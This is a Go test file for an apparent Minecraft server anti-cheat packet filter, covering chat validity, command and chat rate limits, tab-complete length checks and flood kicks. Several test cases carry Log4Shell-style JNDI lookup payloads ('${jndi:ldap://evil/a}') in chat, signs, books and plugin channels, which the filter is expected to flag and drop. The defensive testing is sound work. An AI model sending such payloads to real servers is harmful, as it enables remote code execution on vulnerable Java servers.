package detect

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/rustguard/rustguard/shared/detection"
	"github.com/rustguard/rustguard/shared/mcproto"
	"github.com/rustguard/rustguard/shared/mcproto/packets"
)

// chatPacket is a chat message on proto (unsigned, as mineflayer sends it
// offline).
func chatPacket(_ int32, msg string) appender { return packets.Chat{Message: []byte(msg)} }

// commandStep sends a command the way the client does on proto: a
// command packet since 1.19, a chat line starting with / before.
func commandStep(proto int32, cmd string, advance time.Duration) step {
	if proto >= mcproto.Protocol1_19 {
		return step{advance: advance, kind: packets.KindChatCommand, send: packets.ChatCommand{Command: []byte(strings.TrimPrefix(cmd, "/"))}}
	}
	return step{advance: advance, kind: packets.KindChat, send: packets.Chat{Message: []byte(cmd)}}
}

func TestChatInvalid(t *testing.T) {
	for _, tc := range []struct {
		msg      string
		old, new bool // flagged before 1.19.1, since
	}{
		{"hello there", false, false},
		{"ünïcödé ✓ 🙂", false, false},
		{"", true, true},
		{"a\u00a7cred", true, true},
		{"bell\x07", true, true},
		{"del\x7f", true, true},
		{" leading", false, true},
		{"trailing ", false, true},
		{"/not a command", false, true}, // a command before 1.19; chat can't start with / after
	} {
		t.Run(tc.msg, func(t *testing.T) {
			eachVersion(t, testProtocols, func(t *testing.T, proto int32) {
				s := newPlaying(t, proto, packets.GameModeSurvival, Config{})
				v := s.sb(packets.KindChat, chatPacket(proto, tc.msg))
				want := tc.old
				if proto >= mcproto.Protocol1_19_1 {
					want = tc.new
				}
				got := s.flagged()
				if want && (!slices.Equal(got, []string{"chat.invalid"}) || v.Outcome != Drop) || !want && (len(got) != 0 || v.Outcome != Pass) {
					t.Errorf("%q on %d: %v %v, want flagged=%v", tc.msg, proto, v.Outcome, got, want)
				}
			})
		})
	}
}

func TestCommandText(t *testing.T) {
	for _, tc := range []struct {
		cmd string
		bad bool
	}{
		{"/tp 1 2 3", false},
		{"/", false},        // typed "/" alone: an empty command
		{"/ spawn", false},  // typed with a space after the slash
		{"/say hi ", false}, // a click event may keep trailing spaces
		{"/say \u00a7k", true},
		{"/say \x00", true},
	} {
		t.Run(tc.cmd, func(t *testing.T) {
			eachVersion(t, testProtocols, func(t *testing.T, proto int32) {
				s := newPlaying(t, proto, packets.GameModeSurvival, Config{})
				got, v := s.run([]step{commandStep(proto, tc.cmd, 0)})
				if tc.bad && (!slices.Equal(got, []string{"chat.invalid"}) || v.Outcome != Drop) || !tc.bad && (len(got) != 0 || v.Outcome != Pass) {
					t.Errorf("%q on %d: %v %v, want bad=%v", tc.cmd, proto, v.Outcome, got, tc.bad)
				}
			})
		})
	}
}

func TestCommandRate(t *testing.T) {
	eachVersion(t, testProtocols, func(t *testing.T, proto int32) {
		s := newPlaying(t, proto, packets.GameModeSurvival, Config{})
		cmd := func(d time.Duration) (Outcome, []string) {
			got, v := s.run([]step{commandStep(proto, "/home", d)})
			return v.Outcome, got
		}
		// A burst of three (commands sent apart that a stall delivered
		// together) passes.
		for i := 0; i < 3; i++ {
			if o, got := cmd(time.Millisecond); o != Pass || len(got) != 0 {
				t.Fatalf("%d: command %d of a burst: %v %v", proto, i+1, o, got)
			}
		}
		if o, got := cmd(10 * time.Millisecond); o != Drop || !slices.Equal(got, []string{"spam.command"}) {
			t.Errorf("%d: a fourth command 10 ms later: %v %v, want dropped", proto, o, got)
		}
		// A refused command spends nothing: 45 ms later the bucket holds
		// 1.1 commands' worth.
		if o, got := cmd(45 * time.Millisecond); o != Pass || len(got) != 0 {
			t.Errorf("%d: command 55 ms after the burst: %v %v", proto, o, got)
		}
		for i := 0; i < 20; i++ {
			if o, got := cmd(time.Second); o != Pass || len(got) != 0 {
				t.Fatalf("%d: a command a second: %v %v", proto, o, got)
			}
		}
		// Sustained: one every 10 ms is dropped four times in five.
		dropped := 0
		for i := 0; i < 50; i++ {
			if o, _ := cmd(10 * time.Millisecond); o == Drop {
				dropped++
			}
		}
		if dropped < 35 || dropped > 45 {
			t.Errorf("%d: %d of 50 commands 10 ms apart dropped, want about 40", proto, dropped)
		}
		// Chat does not count as a command.
		if o, got := s.run([]step{{kind: packets.KindChat, send: chatPacket(proto, "hi")}}); len(o) != 0 || got.Outcome != Pass {
			t.Errorf("%d: chat right after a command: %v %v", proto, got, o)
		}
	})
}

func TestRateChecksKickOnlyWhenConfigured(t *testing.T) {
	kick, vl := detection.ActionKick, 3.0
	cfg := Config{Checks: map[string]CheckConfig{"spam.command": {Action: &kick, KickVL: &vl}}}
	for _, tc := range []struct {
		name string
		cfg  Config
		want Outcome
	}{{"default", Config{}, Drop}, {"kick after 3", cfg, Kick}} {
		s := newPlaying(t, 765, packets.GameModeSurvival, tc.cfg)
		var v Verdict
		for i := 0; i < 7; i++ { // the burst of three, then four over the limit: VL 4 minus a little decay
			_, v = s.run([]step{commandStep(765, "/home", time.Millisecond)})
		}
		if v.Outcome != tc.want {
			t.Errorf("%s: fifth command in 5 ms: %v, want %v", tc.name, v.Outcome, tc.want)
		}
	}
}

func TestChatRate(t *testing.T) {
	eachVersion(t, testProtocols, func(t *testing.T, proto int32) {
		// chat.flood would kick this burst (TestChatFlood).
		s := newPlaying(t, proto, packets.GameModeSurvival, Config{Checks: map[string]CheckConfig{"chat.flood": {Mode: ModeOff}}})
		var got []string
		say := func(d time.Duration) Verdict {
			keys, v := s.run([]step{{advance: d, kind: packets.KindChat, send: chatPacket(proto, "spam")}})
			got = append(got, keys...)
			return v
		}
		for i := 0; i < 20; i++ { // a burst of rate × window
			if v := say(0); v.Outcome != Pass {
				t.Fatalf("%d: message %d of a burst of 20: %v", proto, i+1, v.Outcome)
			}
		}
		if v := say(0); v.Outcome != Drop {
			t.Errorf("%d: 21st message: %v, want dropped", proto, v.Outcome)
		}
		if v := say(time.Second); v.Outcome != Pass {
			t.Errorf("%d: a second later: %v", proto, v.Outcome)
		}
		if !slices.Equal(got, []string{"chat.rate"}) {
			t.Errorf("%d: flagged %v", proto, got)
		}
	})
}

func TestTabComplete(t *testing.T) {
	blankOn := Config{Checks: map[string]CheckConfig{"chat.blank_tab": {Mode: ModeAlert}}}
	for _, tc := range []struct {
		name   string
		cfg    Config
		text   string
		from   int32
		want   []string
		action Outcome
	}{
		{"command", Config{}, "/give @p minecraft:stone", 0, nil, Pass},
		{"mineflayer's / after a command", Config{}, "/", 0, nil, Pass},
		{"256 chars", Config{}, "/" + strings.Repeat("a ", 127) + "a", 0, nil, Pass},
		{"257 chars", Config{}, "/" + strings.Repeat("a ", 128), 0, []string{"spam.tab_length"}, Drop},
		{"long word after a space", Config{}, "/say " + strings.Repeat("w", 100), 0, nil, Pass},
		{"65 chars without a space", Config{}, "/" + strings.Repeat("w", 64), 0, []string{"spam.tab_length"}, Drop},
		{"space at char 64", Config{}, strings.Repeat("w", 64) + " x", 0, []string{"spam.tab_length"}, Drop},
		{"space at char 63", Config{}, strings.Repeat("w", 63) + " xx", 0, nil, Pass},
		{"multi-byte chars before the space", Config{}, strings.Repeat("é", 60) + " " + strings.Repeat("x", 10), 0, nil, Pass},
		{"raised limit", Config{Checks: map[string]CheckConfig{"spam.tab_length": {Params: map[string]float64{"max_length": 1000}}}},
			"/" + strings.Repeat("a ", 200), 0, nil, Pass},
		{"blank, experimental on", blankOn, "/", mcproto.Protocol1_13, []string{"chat.blank_tab"}, Pass},
		{"spaces, experimental on", blankOn, "   ", mcproto.Protocol1_13, []string{"chat.blank_tab"}, Pass},
		{"lookup", Config{}, "/msg ${jndi:ldap://x/a}", 0, []string{"chat.lookup_string"}, Drop},
	} {
		t.Run(tc.name, func(t *testing.T) {
			eachVersion(t, testProtocols, func(t *testing.T, proto int32) {
				if proto < tc.from {
					return
				}
				s := newPlaying(t, proto, packets.GameModeSurvival, tc.cfg)
				v := s.sb(packets.KindTabComplete, packets.TabComplete{TransactionID: 1, Text: []byte(tc.text)})
				got := s.flagged()
				if !slices.Equal(got, tc.want) || v.Outcome != tc.action {
					t.Errorf("%s on %d: %v %v, want %v %v", tc.name, proto, v.Outcome, got, tc.action, tc.want)
				}
			})
		})
	}
}

func TestTabRate(t *testing.T) {
	eachVersion(t, testProtocols, func(t *testing.T, proto int32) {
		s := newPlaying(t, proto, packets.GameModeSurvival, Config{})
		var got []string
		tab := func(d time.Duration) Outcome {
			keys, v := s.run([]step{{advance: d, kind: packets.KindTabComplete, send: packets.TabComplete{Text: []byte("/tp ")}}})
			got = append(got, keys...)
			return v.Outcome
		}
		tab(0)
		if o := tab(5 * time.Millisecond); o != Drop || !slices.Equal(got, []string{"spam.tab"}) {
			t.Errorf("%d: tab 5 ms after the last: %v %v", proto, o, got)
		}
		got = nil
		// A typist sends a request per key: 10/s for a minute passes.
		for i := 0; i < 600; i++ {
			if o := tab(100 * time.Millisecond); o != Pass {
				t.Fatalf("%d: request %d at 10/s: %v", proto, i, o)
			}
		}
		// 100/s drains Paper's 500 within seconds.
		dropped := 0
		for i := 0; i < 1000; i++ {
			if tab(10*time.Millisecond) == Drop {
				dropped++
			}
		}
		if dropped == 0 || dropped > 900 {
			t.Errorf("%d: %d of 1000 requests at 100/s dropped", proto, dropped)
		}
		if len(got) != dropped || got[0] != "spam.tab" {
			t.Errorf("%d: flagged %v", proto, got)
		}
	})
}

func TestLookupStrings(t *testing.T) {
	const jndi = "${jndi:ldap://evil/a}"
	for _, tc := range []struct {
		name   string
		protos []int32
		kind   packets.Kind
		pk     func(proto int32) appender
		want   []string
	}{
		{"chat", testProtocols, packets.KindChat, func(p int32) appender { return chatPacket(p, "look "+jndi) }, []string{"chat.lookup_string"}},
		{"quoting a dollar", testProtocols, packets.KindChat, func(p int32) appender { return chatPacket(p, "costs $5 {ok}") }, nil},
		{"command", []int32{765, 769}, packets.KindChatCommand, func(int32) appender { return packets.ChatCommand{Command: []byte("say " + jndi)} }, []string{"chat.lookup_string"}},
		{"sign", testProtocols, packets.KindUpdateSign, func(p int32) appender {
			s := packets.UpdateSign{Location: mcproto.Position{X: 1, Y: 2, Z: 3}, FrontText: true}
			s.Lines[2] = []byte(jndi)
			return s
		}, []string{"chat.lookup_string"}},
		{"book page", []int32{765, 769}, packets.KindEditBook, func(int32) appender {
			return packets.EditBook{Slot: 0, Pages: [][]byte{[]byte("page"), []byte(jndi)}}
		}, []string{"chat.lookup_string"}},
		{"book page in NBT", []int32{754}, packets.KindEditBook, func(p int32) appender {
			return packets.EditBook{Item: packets.ItemStack{Raw: bookSlot(p, bookNBT([]string{jndi}, "", ""))}}
		}, []string{"chat.lookup_string"}},
		{"legacy book page", []int32{47, 340}, packets.KindPluginMessage, func(p int32) appender {
			return packets.PluginMessage{Channel: []byte(bookEditChannel), Data: bookSlot(p, bookNBT([]string{jndi}, "", ""))}
		}, []string{"chat.lookup_string"}},
		{"channel name", []int32{47, 340}, packets.KindPluginMessage, func(int32) appender {
			return packets.PluginMessage{Channel: []byte("${x}"), Data: []byte{1}}
		}, []string{"chat.lookup_string"}},
		{"registered channel", testProtocols, packets.KindPluginMessage, func(p int32) appender {
			return packets.PluginMessage{Channel: registerChannelName(p), Data: []byte("a:b\x00${c}\x00")}
		}, []string{"chat.lookup_string"}},
		{"anvil name", []int32{47, 340}, packets.KindPluginMessage, func(int32) appender {
			return packets.PluginMessage{Channel: []byte(legacyAnvilChannel), Data: mcproto.AppendString(nil, "${a}")}
		}, []string{"chat.lookup_string"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			eachVersion(t, tc.protos, func(t *testing.T, proto int32) {
				s := newPlaying(t, proto, packets.GameModeSurvival, Config{})
				v := s.sb(tc.kind, tc.pk(proto))
				got := s.flagged()
				if !slices.Equal(got, tc.want) || tc.want != nil && v.Outcome != Drop {
					t.Errorf("%s on %d: %v %v, want %v", tc.name, proto, v.Outcome, got, tc.want)
				}
			})
		})
	}
}

func TestTextHelpers(t *testing.T) {
	for _, tc := range []struct {
		s     string
		units int
	}{{"", 0}, {"abc", 3}, {"é", 1}, {"✓", 1}, {"🙂", 2}, {"a🙂b", 4}} {
		if got := mcproto.UTF16Units([]byte(tc.s)); got != tc.units {
			t.Errorf("mcproto.UTF16Units(%q) = %d, want %d", tc.s, got, tc.units)
		}
	}
	for _, tc := range []struct {
		s    string
		want bool
	}{{"${", true}, {"a${b}", true}, {"$", false}, {"$ {", false}, {"$$${", true}, {"{$", false}} {
		if got := hasLookup([]byte(tc.s)); got != tc.want {
			t.Errorf("hasLookup(%q) = %v", tc.s, got)
		}
	}
	for _, tc := range []struct {
		s    string
		want bool
	}{{"minecraft:brand", true}, {"brand", true}, {"fabric:registry/sync", true}, {"a.b-c_d:e/f", true},
		{"", false}, {"A:b", false}, {"a/b:c", false}, {"a:b:c", false}, {"a b", false}, {"MC|Brand", false}} {
		if got := validIdentifier([]byte(tc.s)); got != tc.want {
			t.Errorf("validIdentifier(%q) = %v", tc.s, got)
		}
	}
}

// BenchmarkLayer5Chat measures a chat line and a command through every
// check of the engine.
func BenchmarkLayer5Chat(b *testing.B) {
	p, _ := newTestPlayer(b, 765, Config{})
	chat := packets.Chat{Message: []byte("hello there, how are you doing today?")}.AppendData(nil, 765)
	cmd := packets.ChatCommand{Command: []byte("tp 100 64 100")}.AppendData(nil, 765)
	now := t0
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		now = now.Add(time.Second)
		p.Serverbound(mcproto.StatePlay, packets.KindChat, chat, 0, now)
		p.Serverbound(mcproto.StatePlay, packets.KindChatCommand, cmd, 0, now)
	}
}

// TestChatFlood follows vanilla's spam counter: +20 a message, -1 a tick,
// a disconnect above 200.
func TestChatFlood(t *testing.T) {
	for _, tc := range []struct {
		name string
		gap  time.Duration
		n    int
		kick bool
	}{
		{"ten at once", 0, 10, false},
		{"eleven at once", 0, 11, true},
		{"one a second for a minute", time.Second, 60, false},
		{"one every 0.9 s", 900 * time.Millisecond, 120, true},
		{"two a second", 500 * time.Millisecond, 30, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			eachVersion(t, []int32{mcproto.Protocol1_8, mcproto.Protocol1_20_3}, func(t *testing.T, proto int32) {
				s := newPlaying(t, proto, packets.GameModeSurvival, Config{Checks: map[string]CheckConfig{"chat.rate": {Mode: ModeOff}}})
				kicked := false
				for i := 0; i < tc.n && !kicked; i++ {
					_, v := s.run([]step{{advance: tc.gap, kind: packets.KindChat, send: chatPacket(proto, "hello")}})
					kicked = v.Outcome == Kick
				}
				if kicked != tc.kick {
					t.Fatalf("%d: kicked=%v, want %v (flags %v)", proto, kicked, tc.kick, s.flagged())
				}
				if tc.kick && s.count("chat.flood") != 1 {
					t.Errorf("%d: flags %v, want one chat.flood", proto, s.flagged())
				}
			})
		})
	}
}
